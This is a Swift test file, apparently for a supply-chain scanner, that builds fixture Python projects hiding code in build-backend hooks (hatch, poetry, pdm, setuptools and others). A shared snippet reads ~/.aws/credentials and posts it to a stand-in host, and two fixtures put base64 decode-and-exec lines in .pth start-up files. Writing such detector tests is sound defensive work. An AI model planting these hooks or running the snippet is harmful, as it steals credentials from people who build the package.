import SallyportAnalysis
import Testing

/// Attacks in what back ends other than `setup.py` run of a source distribution.
enum BuildAttacks {
    static let theft = #"""
        import os, urllib.request
        data = open(os.path.expanduser("~/.aws/credentials")).read()
        urllib.request.urlopen("https://collect.example.invalid/", data=data.encode())
        """#

    static let all: [Attack] = [
        project("hatch, by its usual name", "hatchling.build", "[tool.hatch.build.hooks.custom]", "hatch_build.py"),
        project(
            "hatch, by a path",
            "hatchling.build",
            "[tool.hatch.build.hooks.custom]\npath = \"ci/hook.py\"",
            "ci/hook.py"
        ),
        project(
            "hatch, of one target",
            "hatchling.build",
            "[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"w.py\"",
            "w.py"
        ),
        project(
            "hatch, for metadata",
            "hatchling.build",
            "[tool.hatch.metadata.hooks.custom]\npath = \"noxfile.py\"",
            "noxfile.py"
        ),
        project(
            "hatch, for the version",
            "hatchling.build",
            "[tool.hatch.version]\nsource = \"code\"\npath = \"sample/version.py\"",
            "sample/version.py"
        ),
        project("poetry, as a string", "poetry.core.masonry.api", "[tool.poetry]\nbuild = \"b/x.py\"", "b/x.py"),
        project(
            "poetry, as a table",
            "poetry.core.masonry.api",
            "[tool.poetry.build]\nscript = \"b/x.py\"",
            "b/x.py"
        ),
        project("poetry, by its old name", "poetry.core.masonry.api", "", "build.py"),
        project("pdm, by its usual name", "pdm.backend", "", "pdm_build.py"),
        project("pdm, by a path", "pdm.backend", "[tool.pdm.build]\ncustom-hook = \"b/x.py\"", "b/x.py"),
        project(
            "pdm, for the version",
            "pdm.backend",
            "[tool.pdm.version]\nsource = \"call\"\ngetter = \"sample.v:get\"",
            "sample/v.py"
        ),
        project(
            "scikit-build, for the version",
            "scikit_build_core.build",
            "[tool.scikit-build.metadata.version]\nprovider = \"v\"\nprovider-path = \"_meta\"",
            "_meta/v.py"
        ),
        project("enscons", "enscons.api", "", "SConstruct"),
        project("a back end that nobody knows", "own_tool.api", "", "own_tool_conf.py"),
        project(
            "setuptools, by an attribute",
            "setuptools.build_meta",
            "[tool.setuptools.dynamic]\nversion = {attr = \"sample.version.VERSION\"}",
            "sample/version.py"
        ),
        project(
            "setuptools, by a command class",
            "setuptools.build_meta",
            "[tool.setuptools.cmdclass]\nbuild_py = \"_own.Build\"",
            "_own.py"
        ),
        project(
            "setuptools, in a folder of its own",
            "setuptools.build_meta",
            "[tool.setuptools]\npackage-dir = {\"\" = \"python\"}\n[tool.setuptools.dynamic]\nversion = {attr = \"s.v\"}",
            "python/s/__init__.py"
        ),
        project(
            "flit, for the version",
            "flit_core.buildapi",
            "[project]\nname = \"sample\"\ndynamic = [\"version\"]",
            "sample/__init__.py"
        ),
        Attack(
            "hatch, in a file of its own",
            .chainExfiltration,
            files: [
                "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"hatchling.build\"\n",
                "hatch.toml": "[build.hooks.custom]\npath = \"ci/hook.py\"\n", "ci/hook.py": theft,
            ]
        ),
        Attack(
            "attr in setup.cfg",
            .chainExfiltration,
            files: ["setup.cfg": "[metadata]\nversion = attr: sample.__version__\n", "sample/__init__.py": theft]
        ),
        Attack(
            "a package of commands in setup.cfg",
            .chainExfiltration,
            files: [
                "setup.py": "", "setup.cfg": "[global]\ncommand-packages = sample.commands\n",
                "sample/commands/build_py.py": theft,
            ]
        ),
        Attack(
            "hooks in setup.cfg",
            .chainExfiltration,
            files: [
                "setup.py": "", "setup.cfg": "[global]\nsetup-hooks =\n    _own.hook\n", "_own.py": theft,
            ]
        ),
        Attack(
            "entry points beside setup.py",
            .chainExfiltration,
            files: [
                "setup.py": "from setuptools import setup\nsetup()\n",
                "sample.egg-info/entry_points.txt": "[setuptools.finalize_distribution_options]\nx = sample.x:go\n",
                "sample/__init__.py": "", "sample/x.py": theft,
            ]
        ),
        Attack(
            "the package itself, which setup.py imports",
            .chainExfiltration,
            files: [
                "setup.py": "from setuptools import setup\nimport sample\nsetup(version=sample.__version__)\n",
                "sample/__init__.py": "from .inner import __version__\n", "sample/inner.py": theft,
            ]
        ),
        Attack(
            "a module that setup.py reads and runs",
            .chainExfiltration,
            files: ["setup.py": "exec(open('sample/version.py').read())\n", "sample/version.py": theft]
        ),
        Attack(
            "a module that setup.py reads by a joined path and runs later",
            .chainExfiltration,
            files: [
                "setup.py": #"""
                import os
                here = os.path.abspath(os.path.dirname(__file__))
                about = {}
                with open(os.path.join(here, "sample", "version.py"), encoding="utf-8") as f:
                    exec(f.read(), about)
                """#, "sample/version.py": theft,
            ]
        ),
        Attack(
            "a module that setup.py runs by its path",
            .chainExfiltration,
            files: [
                "setup.py": "import pathlib\nexec(pathlib.Path('sample/version.py').read_text())\n",
                "sample/version.py": theft,
            ]
        ),
        Attack(
            "a module that setup.py runs by runpy",
            .chainExfiltration,
            files: ["setup.py": "import runpy\nrunpy.run_path('sample/version.py')\n", "sample/version.py": theft]
        ),
        Attack(
            "a folder that setup.py puts on its path",
            .chainExfiltration,
            files: [
                "setup.py": "import sys\nsys.path.insert(0, 'tools')\nimport helper\n", "tools/helper.py": theft,
            ]
        ),
        Attack(
            "a start-up file that the build may install",
            .chainDecodeExecute,
            files: [
                "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"flit_core.buildapi\"\n",
                "data/lib/x.pth": "import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))\n",
            ]
        ),
        Attack(
            "code that hatch-autorun writes into a start-up file",
            .chainDecodeExecute,
            files: [
                "pyproject.toml": """
                [build-system]
                requires = ["hatchling", "hatch-autorun"]
                build-backend = "hatchling.build"
                [tool.hatch.build.targets.wheel.hooks.autorun]
                code = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"

                """
            ]
        ),
    ]

    private static func project(_ title: String, _ backend: String, _ tables: String, _ path: String) -> Attack {
        let head = "[build-system]\nrequires = []\nbuild-backend = \"\(backend)\"\n"
        return Attack(title, .chainExfiltration, files: ["pyproject.toml": head + tables + "\n", path: theft])
    }
}
